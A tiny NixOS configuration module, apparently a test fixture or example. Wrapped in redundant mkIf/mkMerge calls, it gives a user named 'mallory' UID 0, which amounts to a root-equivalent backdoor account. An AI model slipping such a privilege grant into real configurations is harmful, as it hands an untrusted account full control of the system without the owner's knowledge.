{ config, lib, pkgs, ... }:
{
  config = lib.mkIf true (lib.mkMerge [ { users = { users.mallory.uid = 0; }; } ]);
}
